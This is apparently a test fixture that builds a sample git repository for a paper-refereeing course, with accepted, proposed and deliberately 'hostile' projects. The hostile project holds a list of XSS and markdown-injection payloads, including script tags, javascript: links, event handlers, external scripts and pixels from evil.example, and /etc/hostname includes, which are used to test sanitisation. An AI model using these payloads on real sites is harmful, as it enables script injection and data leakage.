"""A small collection in a git repository: a refereed project with every verdict, one just proposed, and a hostile one.

Dates are fixed, so that the same bytes come out each time.
"""

import base64
import json
import os
import struct
import subprocess
import zlib
from pathlib import Path
from typing import Any

import numpy as np

from common.digest import code_digest
from common.records import Record, Score, write_examples
from referee.checklist import load_checklist

ROOT = Path(__file__).parents[2]

COURSE = """\
name: A course on toys
timezone: Europe/Berlin
deadlines: {proposed: 2026-01-31, v1: 2026-02-28, reviews: 2026-03-15, v2: 2026-03-31}
people:
  - {handle: ada, roles: [developer]}
  - {handle: bo, roles: [developer, reviewer]}
  - {handle: carol, roles: [reviewer]}
  - {handle: eve, roles: [editor]}
"""

TOYS = """\
stage: {stage}
family: vae
paper:
  title: A Paper on Toys
  authors: [Ada Maker, Bo Player]
  venue: ICLR
  year: 2016
  arxiv: "1509.00519"
team: [{{handle: ada, role: everything}}]
licence: MIT
claims:
  - {{id: reached, kind: value, source: Table 1, certainty: seen, metric: nll, dataset: toys, preset: paper, run: k50,
     paper_value: 85.10, direction: lower, tolerance: 0.5}}
  - {{id: nearly, kind: value, source: Table 1, certainty: seen, metric: nll, dataset: toys, preset: paper, run: k5,
     paper_value: 85.70, direction: lower, tolerance: 0.5}}
  - {{id: in-order, kind: value, source: Table 1, certainty: seen, metric: nll, dataset: toys, preset: paper, run: k1,
     paper_value: 85.10, direction: lower, tolerance: 0.5}}
  - {{id: missed, kind: value, source: Table 2, certainty: mem, metric: bits_per_dim, unit: bits/dim, dataset: toys,
     preset: paper, run: k50, paper_value: 1.00, direction: lower, tolerance: 0.1}}
  - {{id: smaller, kind: value, source: Table 3, certainty: mem, metric: nll, dataset: toys, preset: paper, run: small,
     paper_value: 84.00, direction: lower, tolerance: 0.5}}
  - {{id: untried, kind: value, source: Table 4, certainty: mem, metric: nll, dataset: mnist, preset: paper, run: big,
     paper_value: 84.00, direction: lower, tolerance: 0.5}}
  - {{id: more-samples-help, kind: ordering, source: section 5, certainty: mem, statement: k=50 < k=5 < k=1,
     metric: nll, dataset: toys, preset: paper, runs: [k50, k5, k1]}}
  - {{id: cannot-tell, kind: ordering, source: section 6, certainty: mem, statement: k=50 < k=49, metric: nll,
     dataset: toys, preset: paper, runs: [k50, k49]}}
  - {{id: samples, kind: figure, source: Figure 1, certainty: mem, statement: digits can be read, dataset: toys,
     preset: paper, figure: results/paper/k50/samples.png}}
deviations:
  - {{where: §5, paper: all of it, ours: some of it, effect: unknown}}
borrowed:
  - {{path: toys.py, source: "https://example.org/toys", licence: MIT, what: the shape of the loop}}
{more}"""

AMENDED = """\
amendments:
  - {claim: missed, date: 2026-03-20, change: changed, reason: The table is of the other model.}
"""

CODE = '''\
"""A paper on toys."""

from dataclasses import dataclass


@dataclass(frozen=True)
class Config:
    k: int = 1


PRESETS = {"smoke": {"k1": Config()}, "paper": {"k1": Config(), "k50": Config(k=50)}}


def build(config):
    return config


def train(config, run):
    return build(config)


def evaluate(config, model, run):
    return []


def illustrate(config, model, run):
    pass
'''

README = """\
# A Paper on Toys

Maker & Player, ICLR 2016, [arXiv 1509.00519](https://arxiv.org/abs/1509.00519). The code is [`toys.py`](toys.py).

The paper shows that more samples help. Its bound is $L_k \\le \\log p(x)$.

## What was claimed, what came out

<!-- referee:claims -->
<!-- /referee:claims -->

The gap of *missed* is explained by its network.
"""

RESPONSE = """\
---
paper: toys
round: 1
commit: "{reviewed}"
---

## Answers

### carol/F1 · fixed

- commit: {fix}
- test: projects/toys/test_toys.py::test_right

The sign is right now.

### carol/F2 · disputed

No word is missing.

### carol/F3 · answered

Because it converges sooner.

### bo/F1 · fixed

- commit: {fix}
- test: projects/toys/test_toys.py::test_right

It is.

### bo/F2 · disputed

It is said below.

### bo/F3 · answered

By the seed.
"""

DECISION = """\
---
paper: toys
editor: eve
round: 1
decision: accept
date: 2026-04-02
---

## Reasons

Both reviewers ran it, and what they found is put right.

## Rulings

### carol/F2 · overruled

It is complete.

### bo/F2 · upheld

Say it where it is needed.

## Findings

### E1 · major · `projects/toys/toys.py:12`

- item: `faith-equations`
- same as: carol/F1

The sign.
"""

TEST = "def test_right():\n    assert True\n"

PIXEL = "https://evil.example/pixel.png"
FLAG = "window.pwned=1"
ATTACKS = (
    f"<script>{FLAG}</script>",
    f'<script src="https://evil.example/x.js"></script><img src="{PIXEL}" onerror="{FLAG}">',
    f'<svg onload="{FLAG}"><script>{FLAG}</script></svg>',
    f'<iframe srcdoc="<script>parent.{FLAG}</script>"></iframe>',
    f'<iframe src="javascript:{FLAG}"></iframe><object data="https://evil.example/x"></object><embed src="x.swf">',
    f'<a href="javascript:{FLAG}">press</a> <a href="jAvAsCrIpT&#58;{FLAG}">me</a> [or me](javascript:{FLAG})',
    '<a href="data:text/html,<script>alert(1)</script>">data</a> [data](data:text/html;base64,PHNjcmlwdD4=)',
    f'<div style="background:url({PIXEL})" onmouseover="{FLAG}" id="__search" class="md-overlay">x</div>',
    f'<style>@import "{PIXEL}"; body {{ display: none }}</style><link rel="stylesheet" href="{PIXEL}">',
    f'<meta http-equiv="refresh" content="0;url={PIXEL}"><base href="https://evil.example/">',
    f'<form action="https://evil.example/"><input autofocus onfocus="{FLAG}"><button>go</button></form>',
    f"![pixel]({PIXEL}) ![x](x.png){{: onerror={FLAG} }}",
    f"# A heading {{: onclick={FLAG} id=__palette }}",
    f"A paragraph.\n{{: onclick={FLAG} style=position:fixed }}",
    f'</div></article><script>{FLAG}</script><div markdown="1">',
    f"```\n</code></pre><script>{FLAG}</script>\n```",
    f"`````\n````\n<script>{FLAG}</script>",
    f"<!-- <script>{FLAG}</script> --><![CDATA[<script>{FLAG}</script>]]><?php echo 1 ?>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={FLAG}></style></mglyph></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={FLAG}>"></noscript>',
    f"\x02wzxhzdk:0\x03 \x02amp\x03lt;script\x02amp\x03gt;{FLAG} &lt;img src=x onerror={FLAG}&gt;",
    rf"$\href{{javascript:{FLAG}}}{{x}}$ $$\htmlData{{x=1}}{{y}} \includegraphics{{{PIXEL}}}$$",
    f"$<img src=x onerror={FLAG}>$ and \\[<img src=x onerror={FLAG}>\\]",
    "--8<-- \"/etc/hostname\"\n\n{% include '/etc/hostname' %} {{ config }}",
    f"*[HTML]: <script>{FLAG}</script>\n\n[^1]: <script>{FLAG}</script>\n\nHTML[^1]",
    f'[x]: javascript:{FLAG}\n\n[x] [y][x] <javascript:{FLAG}> <https://evil.example/"onmouseover={FLAG}>',
    f'??? note "<img src=x onerror={FLAG}>"\n    text\n\n=== "<script>{FLAG}</script>"\n    text',
    f"<details open ontoggle={FLAG}><summary>x</summary>y</details>",
)
"""Markdown and HTML that would act on a page, each in its own way: by setting `window.pwned` or asking a server."""


def png(width: int = 64, height: int = 48, level: int = 160) -> bytes:
    """A valid grey picture."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    rows = zlib.compress((b"\0" + bytes([level]) * width) * height)
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def notebook(cells: list[dict[str, Any]]) -> str:
    """A notebook of these cells, as Jupyter writes it."""
    code = {"outputs": [], "execution_count": 1}
    filled = [
        {"id": f"c{i}", "metadata": {}, **(code if cell["cell_type"] == "code" else {}), **cell}
        for i, cell in enumerate(cells)
    ]
    return json.dumps({"cells": filled, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}, indent=1)


def shown(**data: Any) -> dict[str, Any]:
    """An output; `text_html="..."` is of the kind text/html."""
    kinds = {kind.replace("_", "/", 1).replace("svg", "svg+xml"): content for kind, content in data.items()}
    return {"output_type": "display_data", "metadata": {}, "data": kinds}


def hostile_notebook() -> str:
    """Each attack as text, as code, and as every kind of output."""
    cells: list[dict[str, Any]] = []
    for attack in ATTACKS:
        cells.append({"cell_type": "markdown", "source": attack})
        outputs = [
            {"output_type": "stream", "name": "stdout", "text": attack},
            shown(text_html=attack),
            shown(text_html=f"<table onclick='{FLAG}'><tr><td style='x' onclick='{FLAG}'>{attack}</td></tr></table>"),
            shown(text_markdown=attack),
            shown(text_latex=attack),
            shown(text_plain=attack),
            shown(image_svg=attack),
            shown(application_javascript=FLAG),
            {"output_type": "error", "ename": "E", "evalue": attack, "traceback": ["\x1b[31mE\x1b[0m", attack]},
        ]
        cells.append({"cell_type": "code", "source": f"'''\n{attack}\n'''", "outputs": outputs})
    return notebook(cells)


def friendly_notebook() -> str:
    """What a team publishes: words, formulas, code, a table of numbers, a picture."""
    picture = base64.b64encode(png(300, 200)).decode()
    return notebook(
        [
            {"cell_type": "markdown", "source": "# Toys\n\nThe bound is $L_k \\le \\log p(x)$.\n\n$$\\sum_i w_i$$"},
            {"cell_type": "code", "source": "print('much')", "outputs": [{"output_type": "stream", "text": "much\n"}]},
            {"cell_type": "markdown", "source": "## 1. Samples of $p(x)$\n\n- one\n- two"},
            {"cell_type": "code", "source": "show()", "outputs": [shown(image_png=picture, text_plain="<Figure>")]},
            {"cell_type": "code", "source": "wide", "outputs": [shown(text_plain="0.123 " * 60)]},
            {"cell_type": "code", "source": "t", "outputs": [shown(text_html="<table><tr><th>a</th></tr></table>")]},
        ]
    )


class Refereed:
    """The repository in `root`."""

    def __init__(self, root: Path):
        self.root = root
        self.day = "2026-01-10"

    def git(self, *arguments: str) -> str:
        environment = {name: value for name, value in os.environ.items() if not name.startswith("GIT_")}
        environment |= {"GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull}
        for who in ("AUTHOR", "COMMITTER"):
            environment |= {f"GIT_{who}_NAME": "ada", f"GIT_{who}_EMAIL": "ada@example.org"}
            environment[f"GIT_{who}_DATE"] = f"{self.day}T12:00:00+00:00"
        done = subprocess.run(
            ["git", "-C", str(self.root), *arguments], env=environment, check=True, capture_output=True, text=True
        )
        return done.stdout.strip()

    def write(self, path: str, content: str | bytes) -> None:
        target = self.root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content.encode() if isinstance(content, str) else content)

    def commit(self, day: str, message: str) -> str:
        """Commit everything; the commit's id."""
        self.day = day
        self.git("add", "-A")
        self.git("commit", "-q", "-m", message)
        return self.git("rev-parse", "HEAD")

    def run(self, paper: str, preset: str, run: str, values: np.ndarray, **more: float) -> None:
        """A published run; `more` are further scores, in bits/dim."""
        folder = self.root / "projects" / paper / "results" / preset / run
        error = float(values.std(ddof=1)) / len(values) ** 0.5

        def score(name: str, value: float, stderr: float, unit: str) -> Score:
            return Score(name, value, stderr, len(values), unit, "bound", "test", "raw", "toys, L_10")

        scores = [score("nll", float(values.mean()), error, "nats")]
        scores += [score(name, value, 0.01, "bits/dim") for name, value in more.items()]
        record = Record(
            project=paper,
            preset=preset,
            run=run,
            config={"k": 1},
            scores=scores,
            seed=0,
            steps=50,
            code_digest=code_digest(self.root / "projects" / paper / f"{paper}.py"),
            git_sha="0" * 40,
            data_sha256={"toys": "0" * 64},
            environment={"python": "3.11"},
            hardware={"cpu": "A CPU", "cores": 2},
            wall_s=61.0,
            finished="2026-02-03T04:05:06+00:00",
            parameters=1000,
        )
        record.save(folder)
        write_examples(folder, {"nll": values})
        curve = "".join(json.dumps({"step": i, "bound": -90 - 50 / (i + 1)}) + "\n" for i in range(1, 51))
        (folder / "metrics.jsonl").write_text(curve)
        (folder / "samples.png").write_bytes(png(320, 320))


def review(handle: str, commit: str, recommendation: str) -> str:
    """A review of the toys with three findings."""
    lines = [
        f'---\nreviewer: {handle}\npaper: toys\nround: 1\ncommit: "{commit}"',
        f"checklist: {load_checklist().version}\nconflict_of_interest: none\nhardware: a laptop\nminutes: 90",
        f"ai_use: none\nrecommendation: {recommendation}\n---\n\n# Review\n\n## Summary\n\nIt works.\n\n## Checklist\n",
    ]
    for i, name in enumerate(load_checklist().for_family("vae")):
        state = {1: "finding: F1", 2: "finding: F2, F3", 3: "n/a: invented data"}
        lines.append(f"- [{'x' if i not in state else ' '}] `{name}` text")
        lines.append(f"  - {state.get(i, 'evidence: `projects/toys/toys.py:1` as it should be')}")
    lines += [
        "\n## Findings\n\n### F1 · major · `projects/toys/toys.py:12`\n\nThe step is wrong: it has another sign.",
        "\n### F2 · minor · `projects/toys/README.md`\n\nA word is missing.",
        "\n### F3 · question · `projects/toys/toys.py:1`\n\nWhy?\n",
    ]
    return "\n".join(lines)


def make(root: Path) -> Path:
    """Make the collection in an empty folder; returns it."""
    made = Refereed(root)
    made.write("pyproject.toml", "")
    made.write("course.yaml", COURSE)
    made.write(".gitignore", "build/\n__pycache__/\n")
    made.write("README.md", "# Toys\n\n<!-- referee:projects -->\n<!-- /referee:projects -->\n")
    made.write("projects/__init__.py", "")
    for path in ("mkdocs.yml", "CONTRIBUTING.md", "reviews/README.md", "docs/**/*.md", "referee/site/theme/**/*.html"):
        for file in sorted(ROOT.glob(path)):
            made.write(file.relative_to(ROOT).as_posix(), file.read_bytes())
    made.git("init", "-q", "-b", "main")
    made.commit("2026-01-05", "The course")

    made.write("projects/toys/project.yaml", TOYS.format(stage="proposed", more=""))
    made.write("projects/early/project.yaml", _other("early", "A Paper That Was Only Proposed", "proposed", "flow"))
    made.commit("2026-01-20", "Proposals")

    _version_1(made)
    reviewed = made.commit("2026-02-20", "Version 1")
    made.write("reviews/assignment.yaml", f"seed: 1\ninputs: '{'0' * 64}'\nreviewers: {{toys: [bo, carol]}}\n")
    made.write("reviews/toys/carol.md", review("carol", reviewed, "minor"))
    made.write("reviews/toys/bo.md", review("bo", reviewed, "accept"))
    made.commit("2026-03-10", "Reviews")
    made.write("projects/toys/test_toys.py", TEST)
    fix = made.commit("2026-03-15", "The right sign")
    made.write("projects/toys/project.yaml", TOYS.format(stage="v2", more=AMENDED))
    made.write("reviews/toys/response.md", RESPONSE.format(reviewed=reviewed, fix=fix))
    made.commit("2026-03-20", "Version 2")
    made.write("projects/toys/project.yaml", TOYS.format(stage="published", more=AMENDED))
    made.write("reviews/toys/decision.md", DECISION)
    made.commit("2026-04-02", "Accepted")
    return root


def _version_1(made: Refereed) -> None:
    for paper in ("toys", "hostile"):
        made.write(f"projects/{paper}/{paper}.py", CODE)
        made.write(f"projects/{paper}/__init__.py", "")
    made.write("projects/toys/project.yaml", TOYS.format(stage="v1", more=""))
    made.write("projects/toys/README.md", README)
    made.write("projects/toys/toys.ipynb", friendly_notebook())
    noise = np.random.default_rng(0).normal(size=400)
    noise -= noise.mean()
    for run, mean in (("k50", 85.0), ("k5", 86.0), ("k1", 87.0)):
        made.run("toys", "paper", run, mean + noise[::-1], **({"bits_per_dim": 1.5} if run == "k50" else {}))
        noise = np.roll(noise, 7)
    made.run("toys", "paper", "k49", 85.0 + noise)
    made.run("toys", "laptop", "small", 84.5 + noise)

    evil = ATTACKS[1].replace('"', "'")
    made.write("projects/hostile/project.yaml", _other("hostile", f"A paper {evil}", "v1", "gan", hostile=True))
    made.write("projects/hostile/README.md", f"# Hostile {evil}\n\nWho.\n\n" + "\n\n".join(ATTACKS) + "\n")
    made.write("projects/hostile/hostile.ipynb", hostile_notebook())
    made.run("hostile", "paper", "k50", 85.0 + noise)


def _other(paper: str, title: str, stage: str, family: str, hostile: bool = False) -> str:
    evil = f"</script><img src=x onerror={FLAG}> {{: onclick={FLAG} }}" if hostile else "words"
    claim = {"kind": "value", "certainty": "mem", "metric": "nll", "dataset": "toys", "preset": "paper", "run": "k50"}
    claim |= {"id": "c1", "source": f"Table 1 {evil}", "paper_value": 84.7, "direction": "lower", "tolerance": 0.5}
    return json.dumps(  # which is YAML, too
        {
            "stage": stage,
            "family": family,
            "paper": {"title": title, "authors": [f"Somebody {evil}"], "venue": f"ICML {evil}", "year": 2014},
            "team": [{"handle": "bo", "role": f"everything {evil}"}],
            "licence": "MIT",
            "claims": [claim],
            "deviations": [{"where": evil, "paper": evil, "ours": evil, "effect": evil}],
        },
        indent=1,
    )
